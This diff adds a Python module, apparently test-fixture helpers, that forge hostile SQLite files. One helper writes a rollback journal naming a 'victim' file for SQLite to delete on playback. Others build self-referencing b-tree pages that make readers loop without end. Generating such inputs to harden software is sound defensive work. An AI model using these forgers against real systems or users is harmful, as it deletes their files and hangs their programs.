@@ -1,0 +1,97 @@
+"""Databases that SQLite would read for ever, or that make it delete a file: only an attacker writes such pages."""
+
+from __future__ import annotations
+
+import sqlite3
+import struct
+from contextlib import closing
+from pathlib import Path
+
+LEVELS = 10
+_ENTRIES = 600  # of a page; 600 ** 10 steps never end
+_MAGIC = bytes.fromhex("d9d505f920a163d7")
+
+
+def forge_journal(database: Path, victim: str) -> None:
+    """Write a database and a rollback journal that names a file, which SQLite deletes once it has played it back."""
+    made(database, "CREATE TABLE x (a)")
+    size, pages = _pages(database)
+    head = (_MAGIC + struct.pack(">IIIII", 0, 1, len(pages), 512, size)).ljust(512, b"\0")
+    name = victim.encode()
+    end = struct.pack(">I", (1 << 30) // size + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
+    database.with_name(f"{database.name}-journal").write_bytes(head + end)
+
+
+def forge_rows(database: Path, tree: str) -> None:
+    """Let all pages of a table or an index lead to its first one again and again.
+
+    Args:
+        database: the file, without a log. The table has a row.
+        tree: the name of the table or index.
+    """
+    with closing(sqlite3.connect(database)) as connection:
+        found = connection.execute("SELECT type, rootpage FROM sqlite_master WHERE name = ?", [tree])
+        kind, root = found.fetchone()
+    size, pages = _pages(database)
+    leaf = pages[root - 1]
+    number, key = (5, b"\1") if kind == "table" else (2, b"\4\3\17\1a")
+    pages[root - 1] = _inner(number, len(pages) + 1, key, size)
+    pages += [_inner(number, len(pages) + level + 1, key, size) for level in range(1, LEVELS)]
+    _write(database, [*pages, leaf])
+
+
+def forge_schema(database: Path, schema: str) -> None:
+    """Write a database whose schema has the row of an index again and again. The schema is one table with an index."""
+    made(database, schema)
+    size, pages = _pages(database)
+    first = pages[0]
+    table, index = struct.unpack(">HH", first[108:112])
+    begin = len(pages) + 3
+    pages += [_leaf(first, table), _leaf(first, index)]
+    pages += [_inner(5, begin + level + 1, b"\1", size) for level in range(LEVELS - 1)]
+    pages += [pages[begin - 2]]
+    pages[0] = first[:100] + _inner(5, begin - 2, b"\1", size - 100, last=begin, count=1, begin=100)
+    _write(database, pages)
+
+
+def made(database: Path, schema: str) -> None:
+    """Make a database without a log."""
+    with closing(sqlite3.connect(database)) as connection:
+        connection.executescript(f"PRAGMA page_size = 16384; {schema}")
+
+
+def _pages(database: Path) -> tuple[int, list[bytes]]:
+    data = database.read_bytes()
+    (size,) = struct.unpack(">H", data[16:18])
+    return size, [data[begin : begin + size] for begin in range(0, len(data), size)]
+
+
+def _write(database: Path, pages: list[bytes]) -> None:
+    first = pages[0]
+    database.write_bytes(b"".join([first[:28] + struct.pack(">I", len(pages)) + first[32:], *pages[1:]]))
+
+
+def _inner(
+    kind: int, child: int, key: bytes, size: int, *, last: int = 0, count: int = _ENTRIES, begin: int = 0
+) -> bytes:
+    """A page of a tree that leads to another one `count` times, and then to `last`.
+
+    Args:
+        kind: the number of its kind, 5 for tables and 2 for indexes.
+        child: the number of the other page.
+        key: how each entry goes on.
+        size: of the page in bytes, behind what is before it.
+        last: the number of the last page; `child` if it is 0.
+        count: how many entries it has.
+        begin: how many bytes are before it.
+    """
+    cell = struct.pack(">I", child) + key
+    first = size - count * len(cell)
+    places = [begin + first + number * len(cell) for number in range(count)]
+    head = struct.pack(f">BHHHBI{count}H", kind, 0, count, begin + first, 0, last or child, *places)
+    return head.ljust(first, b"\0") + cell * count
+
+
+def _leaf(page: bytes, place: int) -> bytes:
+    """A page with one row of the schema, whose cells have the same places as in the first page."""
+    return struct.pack(">BHHHBH", 13, 0, 1, place, 0, place).ljust(200, b"\0") + page[200:]
